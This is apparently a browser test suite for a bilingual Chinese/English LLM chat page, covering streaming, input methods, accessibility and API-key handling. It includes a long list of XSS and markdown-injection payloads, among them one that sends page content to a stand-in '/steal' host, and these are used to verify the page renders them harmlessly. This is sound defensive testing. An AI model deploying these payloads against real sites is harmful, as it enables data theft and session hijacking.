"""The chat page in a real browser: asked in Chinese on a desk and in English on a phone, and what it shows."""

import os
import shutil
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx2
import pytest
import uvicorn

from components.serve.engines import Engine
from components.serve.gateway import Gateway
from components.serve.local import listening
from components.serve.page import HEADERS, PATHS, POLICY, WORDS, language_of, page_html
from components.serve.requests import Limits
from tests.fake_engine import FakeEngine
from zhllama.tokenizer.chat import Chat
from zhllama.tokenizer.vocabulary import Encoder

KEY = "a-key-for-the-tests-only"
CHAT = "/v1/chat/completions"


def gateway_of(engine: FakeEngine, api_key: str = "", positions: int = 512) -> Gateway:
    made = Engine("fake", Path(), [], "/health")
    return Gateway(Limits("zhllama", Chat(engine.encoder), positions), made, engine.address, lambda: True, api_key)


@pytest.fixture
def address(engine: FakeEngine, request: pytest.FixtureRequest) -> Iterator[str]:
    """A gateway with its page; parametrised with a key, one that asks for it."""
    gateway = gateway_of(engine, getattr(request, "param", ""))
    with listening("127.0.0.1", 0) as listener:
        server = uvicorn.Server(uvicorn.Config(gateway.app(page=True), log_level="warning"))
        thread = threading.Thread(target=server.run, args=([listener],))
        thread.start()
        yield f"http://127.0.0.1:{listener.getsockname()[1]}"
        server.should_exit = True
        server.force_exit = True
        thread.join()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    program = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if program is None:
        pytest.skip("NOT CHECKED: no chromium here, so the chat page is not tried in a browser")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        # as root in a container there is no sandbox to be had
        started = playwright.chromium.launch(
            executable_path=program, args=["--no-sandbox", "--disable-background-networking"]
        )
        yield started
        started.close()


class Page:
    """The page in a window of its own: what is typed, and what is shown."""

    def __init__(self, browser: Any, address: str, width: int, height: int, language: str) -> None:
        self.tab = browser.new_page(viewport={"width": width, "height": height}, locale=language)
        self.tab.set_default_timeout(60_000)
        self.elsewhere: list[str] = []
        self.complaints: list[str] = []
        self.tab.on("request", lambda made: self._note(made.url, address))
        self.tab.on("pageerror", lambda error: self.complaints.append(str(error)))
        self.tab.on("console", lambda said: said.type == "error" and self.complaints.append(said.text))
        self.tab.goto(address)
        self.box = self.tab.get_by_role("textbox").last

    def _note(self, url: str, address: str) -> None:
        if not url.startswith((address, "data:", "blob:")):
            self.elsewhere.append(url)

    def say(self, text: str) -> None:
        self.box.click()
        # what was refused stands there again
        self.tab.keyboard.press("Control+A")
        self.tab.keyboard.type(text)
        self.tab.keyboard.press("Enter")

    def shows(self, text: str) -> None:
        self.tab.get_by_text(text, exact=False).first.wait_for()

    def fits(self) -> bool:
        """Nothing is wider than the window, and the box to type in lies within it."""
        wide, high = self.tab.evaluate("[document.documentElement.scrollWidth, window.innerHeight]")
        place = self.box.bounding_box()
        return wide <= self.tab.viewport_size["width"] and place["y"] + place["height"] <= high


def said_of(engine: FakeEngine) -> list[list[str]]:
    return [[message["content"] for message in body["messages"]] for path, body in engine.seen if path == CHAT]


@pytest.mark.browser
def test_a_conversation_in_chinese_on_a_desk(browser: Any, address: str, engine: FakeEngine) -> None:
    page = Page(browser, address, 1100, 720, "zh-CN")
    page.shows(WORDS["zh"]["hello"][:10])
    engine.pieces = ["北京是", "**中国**", "的首都。"]
    page.say("请介绍北京")
    page.shows("的首都。")
    assert page.tab.locator("strong", has_text="中国").count() == 1
    engine.pieces = ["三月", "四月"]
    page.say("什么时候去？")
    page.shows("三月四月")
    assert said_of(engine) == [["请介绍北京"], ["请介绍北京", "北京是**中国**的首都。", "什么时候去？"]]
    assert page.fits()
    page.tab.get_by_role("button", name=WORDS["zh"]["new"]).click()
    page.tab.get_by_text("三月四月").wait_for(state="detached")
    page.say("重新开始")
    page.shows("重新开始")
    page.shows("三月四月")
    assert said_of(engine)[-1] == ["重新开始"]
    assert not page.elsewhere


@pytest.mark.browser
def test_on_a_phone_in_english_and_back_to_chinese(browser: Any, address: str, engine: FakeEngine) -> None:
    page = Page(browser, address, 360, 640, "en-US")
    page.shows(WORDS["en"]["hello"])
    engine.pieces = ["A long answer. " * 20] * 5 + ["The end."]
    page.say("Tell me about Beijing")
    page.shows("The end.")
    assert page.fits()
    page.tab.get_by_role("link", name="中文").click()
    page.shows(WORDS["zh"]["hello"][:10])
    assert page.tab.locator("html").get_attribute("lang") == "zh"


@pytest.mark.browser
def test_an_answer_streams_before_it_is_whole(browser: Any, address: str, engine: FakeEngine) -> None:
    engine.faults[CHAT] = holds
    page = Page(browser, address, 800, 600, "en-US")
    page.say("go on")
    page.shows("first words")
    assert page.tab.get_by_text("last words").count() == 0
    engine.released.set()
    page.shows("last words")


@pytest.mark.browser
def test_a_failure_is_said_in_the_readers_language_and_the_page_lives_on(
    browser: Any, address: str, engine: FakeEngine
) -> None:
    engine.faults[CHAT] = lambda handler: handler.json(500, {})
    page = Page(browser, address, 800, 600, "zh-CN")
    page.say("你好")
    page.shows(WORDS["zh"]["fault"])
    engine.faults.clear()
    page.say("长" * 600)
    page.shows(WORDS["zh"]["too long"])
    page.say("再见")
    page.shows("好的。")


SPY = "http://192.0.2.1"
GO = f"parent.location='{SPY}/steal?k='+parent.document.body.innerHTML"
RUN = "document.title='taken'"
PAYLOADS = [
    f'<iframe srcdoc="<script>{GO}</script>"></iframe>',
    f"<iframe src=\"javascript:{RUN}\"></iframe>",
    f"<iframe src='{SPY}/frame'></iframe>",
    f'<meta http-equiv="refresh" content="0;url={SPY}/">',
    f'<META HTTP-EQUIV=refresh CONTENT="0;url=javascript:{RUN}">',
    f'<form action="{SPY}/" id=f><input name=k><button autofocus onfocus="f.submit()">go</button></form>',
    f'<form><button formaction="{SPY}/">the end</button></form>',
    f'<input type=image src="{SPY}/a.png" formaction="{SPY}">',
    f'<isindex action="{SPY}" type=image>',
    f"<script>{RUN}</script>",
    f"<script src={SPY}/a.js></script>",
    f"<script type=module>import('{SPY}/a.js')</script>",
    f'<img src=x onerror="{RUN}">',
    f'<img src="{SPY}/pixel.png">',
    f'<img srcset="{SPY}/a.png 1x"><picture><source srcset="{SPY}/b.png"><img></picture>',
    f'<svg onload="{RUN}">',
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f'<svg><use href="{SPY}/a.svg#x"/><image href="{SPY}/b.png"/></svg>',
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>the end</text></a></svg>',
    f'<body onload="{RUN}">',
    f'<video src="{SPY}/a.mp4" onerror="{RUN}" autoplay></video>',
    f'<audio src="{SPY}/a.mp3" autoplay></audio>',
    f'<details open ontoggle="{RUN}">the end</details>',
    f'<marquee onstart="{RUN}">the end</marquee>',
    f'<object data="{SPY}/a"></object>',
    f'<object data="data:text/html,<script>{GO}</script>"></object>',
    f'<embed src="{SPY}/a.swf">',
    f'<link rel=stylesheet href="{SPY}/a.css">',
    f'<link rel=prefetch href="{SPY}/a"><link rel=preload as=script href="{SPY}/b">',
    f"<style>@import '{SPY}/a.css'; body {{ background: url({SPY}/b.png) }}</style>",
    f'<div style="position:fixed;inset:0;background:url({SPY}/c.png)">the end</div>',
    f'<base href="{SPY}/">',
    f'<base target="k"><a href="{SPY}">the end</a>',
    f'<a href="javascript:{RUN}">the end</a>',
    f"<a href='{SPY}' ping='{SPY}/ping'>the end</a>",
    f'<template><img src=x onerror="{RUN}"></template>',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f'<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>',
    f"<textarea></textarea><script>{RUN}</script>",
    f"</p></article></main></body></html><script>{RUN}</script>",
    f"<!--<img src='--><img src=x onerror={RUN}//'>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<SCRIPT\n>{RUN}</SCRIPT\t>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"![the picture]({SPY}/spy.png)",
    f'![the picture]({SPY}/spy.png "title")',
    f"![x][1]\n\n[1]: {SPY}/spy.png",
    f"[the end](javascript:{RUN})",
    f"[the end](JaVaScRiPt&colon;{RUN})",
    f"[the end](\x01javascript:{RUN})",
    f"[the end](data:text/html,<script>{GO}</script>)",
    f"[the end](vbscript:{RUN}) [one](file:///etc/passwd) [two](blob:{SPY}/1)",
    f"[the end]({SPY})",
    f'[the end]({SPY} "onclick={RUN}")',
    f"<{SPY}/auto> {SPY}/bare <javascript:{RUN}>",
    f"[a][1]\n\n[1]: javascript:{RUN}",
    f"```html\n<script>{RUN}</script>\n```",
    f"````\n```\n<img src=x onerror={RUN}>\n```\n````",
    f"```\n<script>{RUN}</script>",
    f"``` \"><script>{RUN}</script>\nthe end\n```",
    f"`<img src=x onerror={RUN}>` ``<svg onload={RUN}>``",
    f"**<img src=x onerror={RUN}>** *<svg onload={RUN}>* # <b>the end",
    f"# <script>{RUN}</script>\n> <img src=x onerror={RUN}>\n- <svg onload={RUN}>\n  1. <iframe>",
    f"| a | <img src=x onerror={RUN}> |\n|---|---|\n| <script>{RUN}</script> | b |",
    f"<img src='{SPY}/dangling?",
    f"<a href='{SPY}/dangling?\n\nthe end",
    "\u202egnp.exe\u202c \u2066hidden\u2069 the end",
    "\u0000<\u0000script>\ufeff\u2028\u2029the end",
    "{{constructor.constructor('document.title=1')()}} ${document.title='taken'} <%= 1 %>",
    f"__proto__ constructor <x id=words><x id=text name=key><img name=body onerror={RUN} src>",
    "*" * 20_000 + "`" * 20_000 + "_" * 20_000 + "the end",
    "* " * 10_000 + "the end",
    "> " * 10_000 + "the end",
    "**a " * 5_000 + "`b " * 5_000 + "the end",
    "\n".join(f"{' ' * number}- {number}" for number in range(300)),
]  # fmt: skip
"""What would run, load, send, navigate, cover or deceive; and what makes readers of Markdown slow."""
NAMES = ["ARTICLE", "H2", "H3", "H4", "H5", "P", "OL", "UL", "LI", "PRE", "CODE", "STRONG", "EM", "BLOCKQUOTE", "HR"]


@pytest.mark.browser
@pytest.mark.parametrize("address", [KEY], indirect=True)
def test_what_a_model_says_is_shown_and_never_run_loaded_or_followed(
    browser: Any, address: str, engine: FakeEngine
) -> None:
    page = Page(browser, address, 800, 600, "en-US")
    page.tab.get_by_placeholder(WORDS["en"]["key"]).fill(KEY)
    tab, log = page.tab, page.tab.get_by_role("log")
    for payload in PAYLOADS:
        engine.pieces = [payload[: len(payload) // 2], payload[len(payload) // 2 :]]
        page.say("hello")
        answer = log.locator(".answer")
        tab.get_by_role("button", name="Send").wait_for()
        found = answer.evaluate("""made => [...made.querySelectorAll("*")].map(
            one => [one.tagName, ...one.getAttributeNames().filter(name => name !== "class" && name !== "start")])""")
        assert {one[0] for one in found} <= set(NAMES), payload
        assert all(len(one) == 1 for one in found), payload
        # every word of it is there to be read
        text = answer.text_content()
        assert "the end" in text or "the end" not in payload, payload
        assert "\u202e" not in text
        # the word behind a fence, the language of the code, is the one that is not shown
        if "script" in payload and not payload.startswith("``` "):
            assert "script" in text.lower(), payload
        assert (tab.url, tab.title(), len(tab.frames)) == (f"{address}/", "zhllama · zhllama", 1), payload
        assert not page.elsewhere, payload
        assert KEY not in tab.content()
        tab.get_by_role("button", name="New chat").click()
    assert tab.evaluate("[localStorage.length, sessionStorage.length, document.cookie]") == [0, 0, ""]
    assert tab.locator("#key").input_value() == ""
    assert len(said_of(engine)) == len(PAYLOADS)
    assert not page.complaints


@contextmanager
def spy() -> Iterator[tuple[str, list[str]]]:
    """A server of somebody else's, and what it was asked."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_error(404)

        do_POST = do_GET

        def log_message(self, *_: Any) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.01,))
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}", asked
        server.shutdown()
        thread.join()


@pytest.mark.browser
def test_the_policy_alone_stops_what_would_run_load_or_send(browser: Any, address: str) -> None:
    """As if a mistake of the page let an answer's markup in."""
    # a refresh or a link that is clicked is no policy's to stop
    tried = [one for one in PAYLOADS if one.startswith("<") and "http-equiv" not in one.lower()]
    assert len(tried) > 30
    tab = browser.new_page(locale="en-US")
    content, payload = httpx2.get(f"{address}/?lang=en"), ""
    tab.route(
        f"{address}/?lang=en",
        lambda route: route.fulfill(
            headers=dict(content.headers), body=content.text.replace("<form id", payload + "<form id", 1)
        ),
    )
    with spy() as (evil, asked):
        for payload in tried:
            payload = payload.replace(SPY, evil)
            tab.goto(f"{address}/?lang=en", wait_until="load")
            for field in tab.locator("[formaction], form:not(#ask) button").all():
                field.dispatch_event("click")
            assert tab.evaluate("document.title") == "zhllama · zhllama", payload
            assert tab.url == f"{address}/?lang=en"
            assert not asked, payload
    with pytest.raises(Exception, match="TrustedHTML"):
        tab.evaluate("document.body.innerHTML = '<b>markup</b>'")
    tab.close()


@pytest.mark.browser
def test_markdown_is_drawn_as_it_is_meant(browser: Any, address: str, engine: FakeEngine) -> None:
    page = Page(browser, address, 800, 600, "en-US")
    engine.pieces = [
        "# Title\n\nOne **bold** and *weak* `code*s*`\nsame paragraph, 2*3*4\n\n1. one\n2. two\n   - inner\n"
        "   - more\n3. three\n\nafter\n> quoted\n> twice\n\n```py\nif a:\n    *b*\n```\n---\n3) last"
    ]
    page.say("hello")
    page.shows("last")
    shown = page.tab.locator(".answer").evaluate(
        "function drawn(one) { return [...one.childNodes].map(inner => inner.nodeType === 3 ? inner.data"
        " : `<${inner.localName}>${drawn(inner)}</${inner.localName}>`).join('') }"
    )
    assert shown == (
        "<h2>zhllama</h2><h3>Title</h3><p>One <strong>bold</strong> and <em>weak</em> <code>code*s*</code>\n"
        "same paragraph, 2<em>3</em>4</p><ol><li>one</li><li>two<ul><li>inner</li><li>more</li></ul></li><li>three</li>"
        "</ol><p>after</p><blockquote>quoted\ntwice</blockquote><pre><code>if a:\n    *b*</code></pre><hr>"
        "</hr><ol><li>last</li></ol>"
    )


def holds(handler: Any) -> None:
    """An engine that says the beginning, and the rest when it is released."""
    handler.stream([handler.chunk("first words")], whole=False)
    handler.of.released.wait(60)
    last = handler.chunk(" last words")
    with suppress(OSError):
        handler.wfile.write(f"{len(last):x}\r\n".encode() + last + b"\r\n0\r\n\r\n")


@pytest.mark.browser
def test_an_answer_that_is_stopped_ends_the_engines_work_and_stays_in_the_conversation(
    browser: Any, address: str, engine: FakeEngine
) -> None:
    def until_it_is_left(handler: Any) -> None:
        handler.stream([handler.chunk("first words")], whole=False)
        # the gateway closes its connection: nothing but that ends this
        handler.connection.settimeout(60)
        assert handler.connection.recv(1) == b""
        engine.released.set()

    engine.faults[CHAT] = until_it_is_left
    page = Page(browser, address, 800, 600, "en-US")
    page.say("go on")
    page.shows("first words")
    assert page.tab.get_by_role("log").get_attribute("aria-busy") == "true"
    page.tab.get_by_role("button", name="Stop").click()
    page.tab.get_by_role("button", name="Send").wait_for()
    assert engine.released.wait(60)
    engine.faults.clear()
    page.say("and then?")
    page.shows("好的。")
    assert said_of(engine)[-1] == ["go on", "first words", "and then?"]
    assert page.tab.get_by_role("alert").count() == 0


@pytest.mark.browser
def test_a_new_chat_forgets_the_answer_that_is_still_coming(browser: Any, address: str, engine: FakeEngine) -> None:
    engine.faults[CHAT] = holds
    page = Page(browser, address, 800, 600, "en-US")
    page.say("go on")
    page.shows("first words")
    page.tab.get_by_role("button", name="New chat").click()
    engine.faults.clear()
    engine.released.set()
    page.say("something else")
    page.shows("好的。")
    assert said_of(engine)[-1] == ["something else"]
    assert page.tab.get_by_text("words").count() == 0


@pytest.mark.browser
def test_enter_that_chooses_a_word_of_an_input_method_sends_nothing(
    browser: Any, address: str, engine: FakeEngine
) -> None:
    page = Page(browser, address, 800, 600, "zh-CN")
    page.box.click()
    keyboard = page.tab.context.new_cdp_session(page.tab)
    keyboard.send("Input.imeSetComposition", {"text": "bei jing", "selectionStart": 8, "selectionEnd": 8})
    page.box.dispatch_event("keydown", {"key": "Enter", "isComposing": True, "bubbles": True, "cancelable": True})
    page.box.dispatch_event("keydown", {"key": "Enter", "keyCode": 229, "bubbles": True, "cancelable": True})
    keyboard.send("Input.insertText", {"text": "北京"})
    page.tab.keyboard.press("Shift+Enter")
    page.tab.keyboard.type("几点？")
    assert page.box.input_value() == "北京\n几点？"
    page.tab.keyboard.press("Enter")
    page.shows("好的。")
    assert said_of(engine) == [["北京\n几点？"]]


@pytest.mark.browser
def test_with_the_keyboard_alone_and_by_names_that_are_read_out(browser: Any, address: str, engine: FakeEngine) -> None:
    page = Page(browser, address, 800, 600, "en-US")
    tab = page.tab
    tab.keyboard.type("hello")
    tab.keyboard.press("Tab")
    tab.keyboard.press("Enter")
    page.shows("好的。")
    tab.keyboard.type("again")
    assert page.box.input_value() == "again"
    snapshot = tab.locator("body").aria_snapshot()
    for said in (
        'log "Conversation"',
        'textbox "Message"',
        'heading "You" [level=2]',
        'button "New chat"',
        'link "中文"',
    ):
        assert said in snapshot


@pytest.mark.browser
def test_old_turns_are_forgotten_by_pairs_when_the_answer_would_have_no_room(
    browser: Any, address: str, engine: FakeEngine
) -> None:
    page = Page(browser, address, 800, 600, "en-US")
    for number in range(6):
        page.say(f"{number}" * 40)
        page.tab.locator(".answer").nth(number).get_by_text("好的。").wait_for()
    said = said_of(engine)
    everything = [text for number in range(6) for text in (f"{number}" * 40, "好的。")][:-1]
    assert said[0] == everything[:1]
    assert said[-1] == everything[-len(said[-1]) :]
    assert 1 < len(said[-1]) < len(everything)
    assert len(said[-1]) % 2
    assert len(Chat(engine.encoder).ids(engine.seen[-1][1]["messages"])) + 256 <= 512
    # one question that leaves no room for half of the context is asked all the same
    page.say("长" * 100)
    page.tab.locator(".answer").nth(6).get_by_text("好的。").wait_for()
    assert said_of(engine)[-1] == ["长" * 100]


@pytest.mark.browser
@pytest.mark.parametrize("address", [KEY], indirect=True)
def test_with_a_key_the_page_asks_for_it(browser: Any, address: str, engine: FakeEngine) -> None:
    page = Page(browser, address, 360, 640, "en-US")
    page.say("hello")
    page.shows(WORDS["en"]["wrong key"])
    assert not said_of(engine)
    # what was typed is not lost, and the field that is wrong is where typing goes on
    assert page.box.input_value() == "hello"
    page.tab.keyboard.type(KEY)
    page.tab.keyboard.press("Enter")
    page.shows("好的。")
    page.tab.get_by_placeholder(WORDS["en"]["has key"]).wait_for()
    assert page.fits()


@pytest.mark.browser
def test_the_picture_of_the_docs(browser: Any, address: str, engine: FakeEngine) -> None:
    """`CHAT_PAGE_PICTURE=docs/chat-page.png` draws it anew (on a machine with a Chinese font)."""
    page = Page(browser, address, 900, 640, "zh-CN")
    for asked, answer in (
        ("你好！", "你好！请问有什么可以帮您？"),
        ("我只有一天，怎么游览北京？", "可以这样安排：\n\n1. **上午**：天安门广场和故宫\n2. **下午**：景山公园和北海\n"
         "3. **晚上**：在前门吃烤鸭\n\n出发前请查看开放时间。"),
    ):  # fmt: skip
        engine.pieces = list(answer)
        page.say(asked)
        page.shows(answer[-6:])
        page.tab.get_by_role("button", name=WORDS["zh"]["send"]).wait_for()
    assert page.fits()
    if where := os.environ.get("CHAT_PAGE_PICTURE"):
        page.tab.screenshot(path=where)


# --- without a browser ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "accepted", "language"),
    [("", "zh-CN,zh;q=0.9", "zh"), ("", "en-GB", "en"), ("", "", "zh"), ("", "de", "en"), ("?lang=en", "zh", "en"),
     ("lang=zh", "en", "zh"), ("?lang=xx", "en", "en")],
)  # fmt: skip
def test_the_language_is_asked_for_or_the_browsers(query: str, accepted: str, language: str) -> None:
    assert language_of(query, accepted) == language


def test_both_languages_say_everything() -> None:
    assert WORDS["zh"].keys() == WORDS["en"].keys()


@pytest.mark.parametrize("address", ["", KEY], indirect=True)
def test_every_answer_says_the_policy_and_what_is_open_without_a_key_is_the_page(address: str) -> None:
    there, nowhere = (*PATHS, "/health", "/v1/models"), ("/page.html", "/page.py", "/../page.py", "/favicon.ico")
    for path, status in (*((path, 200) for path in there), *((path, 404) for path in nowhere)):
        answer = httpx2.get(f"{address}{path}", headers={"Authorization": f"Bearer {KEY}"})
        assert answer.status_code == status, path
        assert "unsafe" not in answer.headers["content-security-policy"]
        assert HEADERS.items() <= {name.title(): text for name, text in answer.headers.items()}.items()
    refused = httpx2.get(f"{address}/", headers={"Origin": "http://evil.example"})
    assert (refused.status_code, refused.headers["content-security-policy"]) == (403, POLICY)
    assert httpx2.get(f"{address}/page.js").headers["content-type"].startswith("text/javascript")


def test_there_is_no_websocket(address: str) -> None:
    upgrade = {"Connection": "Upgrade", "Upgrade": "websocket", "Sec-WebSocket-Version": "13",
               "Sec-WebSocket-Key": "AAAAAAAAAAAAAAAAAAAAAA=="}  # fmt: skip
    for path in ("/", "/websocket", "/v1/chat/completions"):
        # refused, or answered as if nobody had asked for one, by what is installed
        assert httpx2.get(f"{address}{path}", headers=upgrade).status_code in (200, 403, 404, 405)


def test_a_models_name_is_text_in_the_page(encoder: Encoder) -> None:
    name = '"><script>alert(1)</script>$key'
    html = page_html("en", Limits(name, Chat(encoder), 512), needs_key=False)
    assert "<script>alert" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;$key" in html
